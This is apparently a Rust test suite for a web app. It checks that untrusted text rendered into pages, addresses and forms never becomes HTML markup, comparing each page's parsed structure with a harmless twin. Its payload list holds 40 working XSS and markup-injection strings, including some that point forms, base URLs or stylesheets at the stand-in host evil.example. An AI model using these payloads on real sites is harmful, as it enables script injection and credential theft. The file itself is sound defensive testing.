//! Nothing that comes from outside is ever markup.
//!
//! Each payload is put into every text of every page, and the page is parsed as a browser would. It must have the same elements and
//! attributes as the page with the payload's harmless twin, which is the same text with other letters for those that can be markup.

use http::StatusCode;
use scraper::{Html, Node};

use crate::Browser;
use crate::played::Played;

const PAYLOADS: [&str; 40] = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><script>alert(1)</script><pre>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "x onfocus=alert(1) autofocus tabindex=1",
    "\" style=\"background:url(//evil.example)",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Log in</button></form>",
    "</form><form action=//evil.example><input name=token>",
    "<input name=csrf value=0>",
    "</select><script>alert(1)</script>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\u{1b}]52;c;YWxlcnQoMSk=\u{7}<b>\u{202e}</b>\0<script\0>alert(1)</script>",
    "diff --git a/x b/x\n+<script>alert(1)</script>\n-</span></pre><script>alert(1)</script>\n@@ <b> @@",
    "//evil.example/../..\\<x>%3Cscript%3E?a=\"b\"#c",
];

/// The same text without anything that can be markup.
fn twin(payload: &str) -> String {
    payload.replace(['<', '>', '"', '\'', '&', '`', '='], "x")
}

/// Elements with their attributes. Of addresses, where they lead; of other values, nothing: they are text.
fn skeleton(text: &str) -> Vec<String> {
    let page = Html::parse_document(text);
    let mut found = Vec::new();
    for node in page.tree.nodes() {
        match node.value() {
            Node::Element(element) => {
                let mut attributes: Vec<String> = element
                    .attrs()
                    .map(|(name, value)| match name {
                        "class" | "id" | "type" | "name" | "rel" | "method" if !value.starts_with("c-") => {
                            format!("{name}={value}")
                        }
                        "href" | "action" | "src" => format!("{name}={}", leads(value)),
                        _ => name.to_owned(),
                    })
                    .collect();
                attributes.sort();
                found.push(format!("{} {}", element.name(), attributes.join(" ")));
            }
            Node::Comment(_) | Node::ProcessingInstruction(_) => found.push("not an element".to_owned()),
            Node::Document | Node::Fragment | Node::Doctype(_) | Node::Text(_) => {}
        }
    }
    found
}

/// The first segment, and how many there are.
fn leads(address: &str) -> String {
    if address.starts_with('#') {
        return address.to_owned();
    }
    assert!(address.starts_with('/') && !address.starts_with("//"), "{address}");
    let path = address.split(['?', '#']).next().unwrap();
    assert!(path.split('/').all(|segment| segment != "." && segment != ".."), "{address}");
    let plain = |character: char| character.is_ascii_alphanumeric() || "/-_~%.".contains(character);
    assert!(path.chars().all(plain), "{address}");
    format!("{} of {}", path.split('/').nth(1).unwrap_or_default(), path.split('/').count())
}

#[tokio::test]
async fn no_element_and_no_attribute_comes_from_outside() {
    for payload in PAYLOADS {
        let told = Browser::logged_in(Played::saying(payload), "cs_local").await;
        let harmless = Browser::logged_in(Played::saying(&twin(payload)), "cs_local").await;
        for address in Played::addresses() {
            let (page, same) = (told.get(address).await, harmless.get(address).await);
            assert_eq!((page.status, same.status), (StatusCode::OK, StatusCode::OK), "{address}");
            let (found, expected) = (skeleton(&page.text), skeleton(&same.text));
            for (found, expected) in found.iter().zip(&expected) {
                assert_eq!(found, expected, "{payload:?} on {address}");
            }
            assert_eq!(found.len(), expected.len(), "{payload:?} on {address}");
        }
    }
}

#[tokio::test]
async fn payloads_in_addresses_and_forms_are_text_too() {
    for payload in PAYLOADS {
        let encoded = payload.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat();
        let nobody = Browser::new(Played::new());
        let browser = Browser::logged_in(Played::new(), "cs_local").await;
        let plain = skeleton(&browser.get("/calls?tool=x&host=x&thread=x").await.text);
        let filtered = browser.get(&format!("/calls?tool={encoded}&host={encoded}&thread={encoded}")).await;
        assert_eq!(skeleton(&filtered.text), plain, "{payload:?}");
        let login = skeleton(&nobody.get("/calls?tool=x").await.text);
        assert_eq!(skeleton(&nobody.get(&format!("/calls?tool={encoded}")).await.text), login, "{payload:?}");
        let missing = skeleton(&browser.get("/runs/none").await.text);
        assert_eq!(skeleton(&browser.get(&format!("/runs/{encoded}")).await.text), missing, "{payload:?}");
        let asked =
            nobody.request("GET", &format!("/login?code={encoded}")).header("sec-fetch-site", "cross-site");
        let asked = asked.header("sec-fetch-mode", "navigate").body(http_body_util::Full::default()).unwrap();
        let asked = nobody.answer(asked).await.text;
        assert!(!asked.contains("<img") && !asked.contains("<script>"), "{asked}");
    }
}

#[test]
fn the_check_sees_what_it_is_for() {
    for (page, twin) in [
        ("<p>a<b>c</b></p>", "<p>axbxcx/bx</p>"),
        ("<p title=\"a\" onclick=\"b\">", "<p title=\"ax onclickxxb\">"),
        ("<p><!-- a --></p>", "<p>a</p>"),
    ] {
        assert_ne!(skeleton(page), skeleton(twin));
    }
    assert_eq!(skeleton("<p>&lt;b&gt;</p>"), skeleton("<p>xbx</p>"));
}
